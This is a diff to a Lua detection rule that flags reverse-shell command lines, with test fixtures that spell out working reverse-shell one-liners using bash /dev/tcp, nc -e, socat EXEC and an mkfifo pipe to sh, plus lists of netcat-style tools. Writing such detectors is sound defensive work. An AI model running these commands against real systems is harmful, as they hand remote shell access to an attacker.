@@ -1,7 +1,22 @@
 local lists = require "moonwatch.lists"
 local match = require "moonwatch.match"
 
-local netcats = { nc = true, ncat = true, netcat = true, ["nc.traditional"] = true, ["nc.openbsd"] = true }
+--- A shell's own way to a socket; the first alone is also how scripts wait for a port.
+local sockets = { "/dev/tcp/", "/dev/udp/" }
+local ties = { " -i", ">&", "<&", "| sh", "|sh", "| bash", "|bash", "sh</dev/", "sh </dev/", "sh < /dev/" }
+local clients = { "nc ", "ncat ", "netcat ", "s_client", "telnet " }
+
+--- An option that has netcat start a program: -e, -c, --exec, --sh-exec, and -e in a cluster.
+local function starts_program(process)
+  for i, argument in ipairs(process.argv or {}) do
+    local is_long = match.starts(argument, "--")
+    if i > 1 and match.starts(argument, "-") and not is_long
+      and (match.ends(argument, "e") or match.ends(argument, "c")) then
+      return true
+    end
+  end
+  return match.has_arg(process, "--exec", "--sh-exec", "--lua-exec")
+end
 
 return {
   id = "reverse_shell_cmdline",
@@ -11,31 +26,36 @@ return {
   severity = "high",
   attack = { "T1059.004", "T1095" },
   message = "{process.parent.name} started a reverse shell: {process.cmdline}",
-  false_positives = { "Wait-for-it scripts that probe a port by /dev/tcp" },
   match = function(event)
     local process = event.process
     local cmdline = process.cmdline
-    if match.contains(cmdline, "/dev/tcp/") or match.contains(cmdline, "/dev/udp/") then
-      return match.named(process, lists.shells)
+    if match.named(process, lists.netcats) then
+      return starts_program(process)
+    elseif process.name == "socat" then
+      return match.contains_any(cmdline, { "EXEC:", "SYSTEM:", "exec:", "system:" })
+    elseif not match.named(process, lists.shells) then
+      return false
     end
-    if netcats[process.name] then
-      return match.has_arg(process, "-e", "-c", "--exec", "--sh-exec", "-ne", "-lvpe")
-    end
-    if process.name == "socat" then
-      return match.contains(cmdline, "EXEC:") or match.contains(cmdline, "SYSTEM:")
-    end
-    return match.contains(cmdline, "mkfifo") and match.contains_any(cmdline, { "nc ", "ncat ", "s_client" })
+    return (match.contains_any(cmdline, sockets) and match.contains_any(cmdline, ties))
+      or (match.contains_any(cmdline, { "mkfifo", "mknod" }) and match.contains_any(cmdline, clients))
   end,
   examples = {
+    { expect = true, event = { process = { name = "bash",
+      argv = { "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" } } } },
     { expect = true, event = { process =
-      { name = "bash", argv = { "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" } } } },
-    { expect = true, event = { process = { name = "nc", argv = { "nc", "-e", "/bin/sh", "10.0.0.1", "4444" } } } },
+      { name = "nc", argv = { "nc", "-e", "/bin/sh", "10.0.0.1", "4444" } } } },
+    { expect = true, event = { process =
+      { name = "nc.traditional", argv = { "nc", "-lvnpe", "4444", "/bin/sh" } } } },
     { expect = true, event = { process =
       { name = "socat", argv = { "socat", "TCP:10.0.0.1:4444", "EXEC:/bin/sh" } } } },
-    { expect = true, event = { process =
-      { name = "sh", argv = { "sh", "-c", "mkfifo /tmp/f; nc 10.0.0.1 4444 </tmp/f | sh >/tmp/f" } } } },
+    { expect = true, event = { process = { name = "sh",
+      argv = { "sh", "-c", "mkfifo /tmp/f; nc 10.0.0.1 4444 </tmp/f | sh >/tmp/f" } } } },
+    { note = "waiting for a port", expect = false, event = { process =
+      { name = "bash", argv = { "bash", "-c", "</dev/tcp/db/5432" } } } },
+    { expect = false, event = { process =
+      { name = "bash", argv = { "bash", "-c", "echo > /dev/tcp/db/5432" } } } },
     { expect = false, event = { process = { name = "nc", argv = { "nc", "-z", "db", "5432" } } } },
-    { expect = false, event = { process = { name = "grep", argv = { "grep", "/dev/tcp/", "x" } } } },
+    { expect = false, event = { process = { name = "grep", argv = { "grep", ">&/dev/tcp/", "x" } } } },
     { expect = false, event = { process = { name = "socat", argv = { "socat", "-", "UNIX:/run/x" } } } },
   },
 }
